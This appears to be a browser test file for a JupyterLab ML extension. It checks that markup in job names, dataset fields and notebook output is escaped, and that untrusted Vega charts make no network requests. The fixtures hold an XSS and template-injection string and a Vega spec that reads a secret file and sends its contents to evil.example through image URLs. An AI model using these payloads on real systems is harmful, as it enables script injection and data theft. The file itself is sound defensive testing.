"""Names and descriptions that others wrote are text, whatever stands in them; a missing server half
is told once.
"""

from __future__ import annotations

import json
import re
import time
import uuid
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from playwright.sync_api import expect

from jupyter_mlinfra import Workbench
from tests.browser.conftest import FOLDER, Lab, Opener, Server, cell, jupyterlab

HOSTILE = "<img src=x onerror=alert(1)><script>alert(2)</script>{{7*7}}"


@pytest.fixture
def lab(shared: Lab) -> Lab:
    """The tests of this file leave nothing behind but open pages: one page serves them all."""
    return shared


def test_a_job_with_markup_in_its_name_is_shown_as_text(lab: Lab) -> None:
    name = f"{HOSTILE} {time.time_ns()}"
    job = lab.server.ask(
        "mlinfra/api/jobs/jobs", "POST", {"command": ["echo", HOSTILE], "name": name}
    )
    panel = lab.panel("Jobs")
    row = lab.row(panel, job["ref"])
    expect(row).to_contain_text("{{7*7}}")
    row.click()
    page = lab.main(job["ref"])
    expect(page.get_by_role("heading", level=1)).to_have_text(name)
    expect(page.get_by_role("log")).to_contain_text(HOSTILE)
    panel.get_by_role("searchbox").fill("onerror")
    expect(lab.row(panel, job["ref"])).to_contain_text("<img src=x onerror=alert(1)>")
    assert lab.page.locator("img[src='x']").count() == 0


def test_a_dataset_with_markup_in_its_description_and_rows_is_shown_as_text(lab: Lab) -> None:
    catalog = Workbench.open(lab.server.root).catalog
    catalog.write(
        pl.DataFrame({"text": [HOSTILE, "\u202egnirts", "🛫" * 50]}),
        into="browser.hostile",
        mode="replace",
    )
    catalog.describe("browser.hostile", owner=HOSTILE, description=HOSTILE)
    page = lab.open("Catalog", "dataset:browser.hostile")
    expect(page.get_by_text(HOSTILE).first).to_be_visible()
    page.get_by_role("tab", name="Preview").click()
    expect(page.get_by_role("grid", name="Rows of browser.hostile")).to_contain_text(HOSTILE)
    assert lab.page.locator("img[src='x']").count() == 0


def test_an_object_with_markup_in_its_name_is_text_in_a_notebooks_output(lab: Lab) -> None:
    job = lab.server.ask("mlinfra/api/jobs/jobs", "POST", {"command": ["true"], "name": HOSTILE})
    notebook = lab.notebook(cell(f"import jupyter_mlinfra as ml\nml.job({job['id']!r})"))
    notebook.locator(".cm-content").first.click()
    lab.page.keyboard.press("Shift+Enter")
    expect(notebook.locator(".jp-OutputArea-output").first).to_contain_text(
        "<img src=x", timeout=60_000
    )
    assert lab.page.locator("img[src='x']").count() == 0


READS_AND_SENDS: dict[str, Any] = {
    "$schema": "https://vega.github.io/schema/vega/v6.json",
    "width": 60,
    "height": 60,
    "title": "reads and sends",
    "background": "url(https://evil.example/background.svg#a)",
    "data": [
        {
            "name": "read",
            "url": f"/api/contents/{FOLDER}/secret.txt?content=1",
            "format": {"type": "json"},
            "transform": [
                {
                    "type": "formula",
                    "as": "sent",
                    "expr": "'https://evil.example/x.png?d=' + datum.content",
                }
            ],
        },
        {"name": "own", "values": [{"sent": "https://evil.example/own.png"}]},
    ],
    "signals": [
        {"name": "cursor", "value": "url(https://evil.example/cursor.png), auto"},
        {
            "name": "picture",
            "value": "",
            "bind": {"input": "image", "src": "https://evil.example/bind.png"},
        },
    ],
    "marks": (
        [
            {
                "type": "image",
                "from": {"data": name},
                "encode": {
                    "enter": {
                        "url": {"field": "sent"},
                        "width": {"value": 9},
                        "height": {"value": 9},
                    }
                },
            }
            for name in ("read", "own")
        ]
        + [
            {
                "type": "rect",
                "from": {"data": "own"},
                "encode": {
                    "enter": {
                        "width": {"value": 60},
                        "height": {"value": 60},
                        "fill": {"value": "red"},
                        "stroke": {"value": "url(https://evil.example/stroke.svg#a)"},
                        "href": {"value": "javascript:window.wasHere = true"},
                        "tooltip": {"signal": "{image: 'https://evil.example/tip.png'}"},
                    }
                },
            },
        ]
    ),
}
LOADS: dict[str, Any] = {
    "$schema": "https://vega.github.io/schema/vega-lite/v6.json",
    "title": "loads",
    "data": {"url": "https://evil.example/leak.csv?who=1"},
    "mark": "point",
    "encoding": {"x": {"field": "a"}},
}


def test_a_chart_in_a_notebook_that_nobody_trusts_fetches_nothing_from_anywhere(
    lab: Lab,
) -> None:
    specs = {
        "vega.v6+json": READS_AND_SENDS,
        "vega.v6.json": READS_AND_SENDS,
        "vegalite.v6+json": LOADS,
        "vegalite.v6.json": LOADS,
    }
    outputs = [
        {"output_type": "display_data", "metadata": {}, "data": {f"application/vnd.{kind}": spec}}
        for kind, spec in specs.items()
    ]
    folder = lab.server.root / FOLDER
    folder.mkdir(exist_ok=True)
    (folder / "secret.txt").write_text(json.dumps({"content": "TOPSECRET"}))
    asked: list[str] = []
    lab.page.on("request", lambda request: asked.append(request.url))
    notebook = lab.notebook(
        {**cell("1"), "outputs": outputs}, name=f"hostile-{uuid.uuid4().hex[:8]}"
    )
    charts = notebook.locator(".jp-OutputArea-output")
    for title, place in (
        ("reads and sends", 0),
        ("reads and sends", 1),
        ("loads", 2),
        ("loads", 3),
    ):
        expect(charts.nth(place)).to_contain_text(title)
        expect(charts.nth(place)).to_contain_text("Not loaded: ")
    square = charts.first.locator('path[fill="red"]')
    square.hover()
    expect(lab.page.locator(".vg-tooltip.visible")).to_contain_text("evil.example/tip.png")
    square.click()
    lab.page.wait_for_timeout(1_000)
    assert [url for url in asked if "evil" in url or "secret.txt" in url] == []
    assert lab.page.evaluate("window.wasHere") is None


@pytest.mark.slow
def test_without_the_server_half_a_panel_says_so_and_how_to_mend_it(
    fresh: Opener, tmp_path: Path, server: Server
) -> None:
    with jupyterlab(
        server.root, tmp_path, "--ServerApp.jpserver_extensions={'jupyter_mlinfra': False}"
    ) as bare:
        other = fresh(bare)
        try:
            other.go()
            panel = other.panel("Catalog")
            card = panel.get_by_role("alert")
            expect(card).to_have_count(1)
            expect(card).to_contain_text("jupyter server extension enable jupyter_mlinfra")
            other.page.wait_for_timeout(4_000)  # the status bar asks three seconds after the start
            other.faults[:] = [
                fault
                for fault in other.faults
                if not re.search(r"status of 404 .*/mlinfra/", fault)
            ]
        finally:
            other.page.close()  # it would ask a server that is gone
